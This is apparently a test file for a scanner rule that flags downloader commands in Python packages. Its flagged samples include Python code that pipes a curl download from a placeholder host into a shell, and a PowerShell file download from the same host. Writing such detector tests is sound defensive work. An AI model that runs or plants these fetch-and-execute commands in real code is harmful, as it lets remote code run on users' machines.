import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloaderCommand } from './rule.ts';

testRule(downloaderCommand, {
  seen: {
    'curl piped to a shell': "import os\nos.system('curl -s https://collector.example.invalid/a | sh')",
    'a PowerShell download':
      "import subprocess\nsubprocess.Popen(['powershell', '-c', \"(New-Object Net.WebClient).DownloadFile('https://collector.example.invalid/a', 'a')\"])",
  },
  unseen: {
    'a local command': "import os\nos.system('demo --curl off')",
  },
});
